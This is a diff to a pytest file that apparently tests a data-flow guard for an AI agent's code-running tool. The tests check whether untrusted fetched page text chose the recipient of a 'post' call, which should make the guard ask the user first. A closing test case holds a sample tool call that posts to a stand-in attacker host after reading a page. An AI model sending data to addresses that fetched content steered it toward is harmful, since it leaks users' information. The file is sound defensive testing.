@@ -155,6 +155,76 @@ async def test_a_value_that_depends_on_nothing_untrusted_does_not_ask(how):
     assert sent == ["team@home.example"]
 
 
+CHOSEN = {
+    "a branch": "if 'Welcome' in page:\n    await post('a@x.example')",
+    "the other branch": "if 'nothing' in page:\n    pass\nelse:\n    await post('a@x.example')",
+    "one of two": "await post('a@x.example' if 'Welcome' in page else 'b@x.example')",
+    "a variable": "to = 'b@x.example'\nif 'Welcome' in page:\n    to = 'a@x.example'\nawait post(to)",
+    "a table": "await post({True: 'a@x.example', False: 'b@x.example'}['Welcome' in page])",
+    "an index": "await post(['b@x.example', 'a@x.example'][page.count('Welcome')])",
+    "and": "'Welcome' in page and await post('a@x.example')",
+    "a conditional call": "await post('a@x.example') if 'Welcome' in page else None",
+    "a loop with a condition": (
+        "for word in page.split():\n    if word != 'Welcome!':\n        continue\n    await post('a@x.example')"
+    ),
+    "a while": "while 'Welcome' in page:\n    await post('a@x.example')\n    page = ''",
+    "a filter": "[await post('a@x.example') for word in page.split() if word == 'Welcome!']",
+    "a function": "async def go():\n    await post('a@x.example')\nif 'Welcome' in page:\n    await go()",
+    "an early end": "if 'Welcome' not in page:\n    raise ValueError('no')\nawait post('a@x.example')",
+    "an assertion": "assert 'Welcome' in page\nawait post('a@x.example')",
+    "an early end in a function": (
+        "def check(text):\n    if 'Welcome' not in text:\n        raise ValueError('no')\n"
+        "check(page)\nawait post('a@x.example')"
+    ),
+    "a failure": "try:\n    int(page)\nexcept ValueError:\n    await post('a@x.example')",
+}
+
+
+@pytest.mark.parametrize("how", CHOSEN)
+def test_a_constant_that_untrusted_text_chose_depends_on_the_text(how):
+    code = f"page = await fetch_page('https://shop.example')\n{CHOSEN[how]}"
+    flow = read_flow(code, {"fetch_page", "read_note", "post"})
+    assert flow is not None
+    assert flow.find_sources("post", "to", 0) == frozenset({"fetch_page"})
+
+
+@pytest.mark.parametrize("how", ["a branch", "a table"])
+async def test_a_constant_that_untrusted_text_chose_asks_unless_the_person_named_it(how):
+    code = f"page = await fetch_page('https://shop.example')\n{CHOSEN[how]}"
+    asked, _ = await run_script(code)
+    assert not sent
+    assert "chosen by a condition on this text: «a@x.example»" in asked[0]
+    asked, _ = await run_script(code, "If the shop says Welcome, post to a@x.example, otherwise to b@x.example.")
+    assert not asked
+    assert sent == ["a@x.example"]
+
+
+FREE = {
+    "a loop over the text": "for word in page.split()[:1]:\n    await post('team@home.example', word)",
+    "a branch that posts nothing": "if 'Welcome' in page:\n    print('yes')\nawait post('team@home.example')",
+    "a branch about a trusted result": (
+        "note = await read_note()\nif 'news' in note:\n    await post('team@home.example', page)"
+    ),
+    "a failure that is caught": (
+        "try:\n    more = await fetch_page('https://shop.example/2')\nexcept RuntimeError:\n    more = ''\n"
+        "await post('team@home.example', more)"
+    ),
+    "a function": "async def tell(text):\n    await post('team@home.example', text)\nawait tell(page)",
+    "a loop that ends early": (
+        "found = ''\nfor word in page.split():\n    if word.startswith('W'):\n        found = word\n        break\n"
+        "await post('team@home.example', found)"
+    ),
+}
+
+
+@pytest.mark.parametrize("how", FREE)
+def test_a_constant_that_no_untrusted_text_chose_is_free(how):
+    code = f"page = await fetch_page('https://shop.example')\n{FREE[how]}"
+    flow = read_flow(code, {"fetch_page", "read_note", "post"})
+    assert flow is not None
+    assert not (flow.find_sources("post", "to", 0) or frozenset()) & {"fetch_page"}
+
+
 async def test_what_a_script_returns_keeps_the_label():
     calls = [ToolCall("run_code", {"code": "(await fetch_page('https://shop.example')).split()[5][::-1]"})]
     calls.append(ToolCall("run_code", {"code": "await post('www.attacker.evil')"}))
